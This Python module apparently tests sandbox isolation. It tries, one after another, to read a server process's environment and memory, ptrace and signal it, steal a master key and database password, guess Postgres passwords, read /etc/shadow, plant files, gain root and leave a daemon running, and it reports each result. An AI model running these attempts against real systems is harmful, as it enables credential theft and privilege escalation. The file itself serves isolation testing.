"""A module of a hostile repository: tries to reach what is the server's, and says on stdout how far it came.

`targets.json` beside it tells where everything is, so that nothing is refused for want of a good guess.
"""

import ctypes
import glob
import json
import os
import re
import resource
import socket
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
with open(f"{HERE}/targets.json", encoding="utf-8") as file:
    TARGETS = json.load(file)
SERVER = TARGETS["pid"]
DATA = TARGETS["dataDir"]
RELEASES = TARGETS["releases"]
CANARY = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{32}")
libc = ctypes.CDLL(None, use_errno=True)
attempts = []


def attempt(function):
    attempts.append(function)
    return function


def read(path, size=1_000_000):
    with open(path, "rb") as file:
        return file.read(size)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


@attempt
def server_environment():
    return read(f"/proc/{SERVER}/environ")


@attempt
def server_memory():
    found = set()
    maps = read(f"/proc/{SERVER}/maps").decode()
    with open(f"/proc/{SERVER}/mem", "rb", 0) as memory:
        for start, end in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M):
            size = int(end, 16) - int(start, 16)
            if size > 256_000_000:
                continue
            try:
                memory.seek(int(start, 16))
                found.update(CANARY.findall(memory.read(size)))
            except OSError:
                continue
    return b" ".join(found)


@attempt
def server_memory_map():
    return read(f"/proc/{SERVER}/maps")


@attempt
def server_memory_by_call():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(64)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
    # Where it is refused, it is refused before the address is looked at.
    there = Vector(TARGETS["address"], 64)
    checked(libc.process_vm_readv(SERVER, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    return buffer.raw


@attempt
def server_descriptors():
    folder = f"/proc/{SERVER}/fd"
    return b"\n".join(read(f"{folder}/{name}", 1_000) for name in os.listdir(folder) if is_file(f"{folder}/{name}"))


@attempt
def server_working_directory():
    return os.readlink(f"/proc/{SERVER}/cwd").encode()


@attempt
def server_root():
    return read(f"/proc/{SERVER}/root{DATA}/master.key")


@attempt
def server_trace():
    checked(libc.ptrace(16, SERVER, None, None))
    os.waitpid(SERVER, 0)
    checked(libc.ptrace(17, SERVER, None, None))
    return b"attached"


@attempt
def server_signal():
    os.kill(SERVER, TARGETS["signal"])
    return b"sent"


@attempt
def server_socket():
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(5)
    client.connect(TARGETS["socket"])
    return client.recv(100)


@attempt
def server_priority():
    os.setpriority(os.PRIO_PROCESS, SERVER, 10)
    return b"set"


@attempt
def master_key():
    return read(f"{DATA}/master.key")


@attempt
def master_key_by_link():
    os.symlink(f"{DATA}/master.key", f"{os.environ['HOME']}/key")
    return read(f"{os.environ['HOME']}/key")


@attempt
def master_key_by_hard_link():
    os.link(f"{DATA}/master.key", f"{os.environ['HOME']}/hard")
    return read(f"{os.environ['HOME']}/hard")


@attempt
def master_key_opened():
    os.chmod(f"{DATA}/master.key", 0o644)
    return read(f"{DATA}/master.key")


@attempt
def database_password():
    return read(f"{DATA}/postgres.password")


@attempt
def database_files():
    return read(f"{DATA}/postgres/cluster/base")


@attempt
def mirrors():
    return read(f"{DATA}/mirrors/acme.git/packed-refs")


@attempt
def data_folder_write():
    with open(f"{DATA}/planted", "w", encoding="utf-8"):
        return b"written"


def database(password):
    sys.path.insert(0, os.path.dirname(os.path.abspath(sys.argv[0])))
    from postgres_wire import Connection

    connection = Connection(TARGETS["databaseHost"], TARGETS["databasePort"], "postgres", password, "postgres")
    return repr(connection.query("SELECT current_user")).encode()


@attempt
def database_without_password():
    return database("")


@attempt
def database_with_guesses():
    for guess in ("postgres", "odoo", "admin", "password", os.environ.get("PGPASSWORD", "")):
        try:
            return database(guess)
        except Exception as error:
            last = error
    raise last


@attempt
def database_by_socket():
    places = glob.glob("/tmp/.s.PGSQL.*[0-9]") + glob.glob("/var/run/postgresql/.s.PGSQL.*[0-9]") + TARGETS["sockets"]
    for place in places or missing():
        client = socket.socket(socket.AF_UNIX)
        client.connect(place)
        client.sendall(b"\0\0\0\x27\0\x03\0\0user\0postgres\0database\0postgres\0")
        if client.recv(9)[:9] == b"R\0\0\0\x08\0\0\0\0":
            return b"let in"
    raise PermissionError("a password is asked for")


@attempt
def other_release():
    with open(f"{RELEASES}/other/module.py", "a", encoding="utf-8") as file:
        file.write("planted")
    return b"written"


@attempt
def own_release():
    with open(f"{HERE}/planted.py", "w", encoding="utf-8"):
        return b"written"


@attempt
def new_release():
    os.mkdir(f"{RELEASES}/planted")
    return b"made"


@attempt
def releases_moved():
    os.rename(RELEASES, f"{RELEASES}.moved")
    os.rename(f"{RELEASES}.moved", RELEASES)
    return b"moved"


@attempt
def home_of_root():
    return repr(os.listdir("/root")).encode()


@attempt
def passwords_of_the_system():
    return read("/etc/shadow", 10)


@attempt
def memory_of_the_machine():
    return read("/dev/mem", 10)


@attempt
def first_process():
    return read("/proc/1/environ") or missing()


@attempt
def parent_environment():
    return read(f"/proc/{os.getppid()}/environ") or missing()


@attempt
def rights_of_root():
    os.setuid(0)
    os.setgid(0)
    return b"root"


@attempt
def groups_of_root():
    os.setgroups([0, 42])
    return b"joined"


@attempt
def another_root():
    os.chroot(HERE)
    return b"changed"


@attempt
def core_size():
    resource.setrlimit(resource.RLIMIT_CORE, (1_000_000, 1_000_000))
    return b"raised"


def is_file(path):
    return os.path.isfile(path) and not os.path.realpath(path).startswith("/dev/")


def missing():
    raise FileNotFoundError("nothing there")


def try_all():
    for function in attempts:
        try:
            print(json.dumps({"try": function.__name__, "got": function().decode("latin-1")}), flush=True)
        except Exception as error:
            print(json.dumps({"try": function.__name__, "refused": f"{type(error).__name__}: {error}"}), flush=True)


def look_around():
    """What may be seen, and must show nothing: every command line, environment and descriptor in reach."""
    seen = [repr(dict(os.environ)).encode(), repr(os.listdir("/proc/self/fd")).encode()]
    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        try:
            seen.append(read(path))
        except OSError:
            continue
    for one in seen:
        print(json.dumps({"look": one[:10_000].decode("latin-1")}), flush=True)


def leave_a_daemon():
    """Forks twice and begins a session, as daemons do, and says nothing more on our descriptors."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", f": {TARGETS['daemon']}; exec >/dev/null 2>&1; trap : TERM HUP; while :; do sleep 1; done"])
        os._exit(0)


def crash():
    """A process of ours that dies with a core dump, if one is written."""
    folder = f"{os.environ['HOME']}/crash"
    os.mkdir(folder)
    subprocess.run(["sh", "-c", "kill -s ABRT $$"], cwd=folder, check=False)
    print(json.dumps({"cores": os.listdir(folder)}), flush=True)


try_all()
look_around()
crash()
leave_a_daemon()
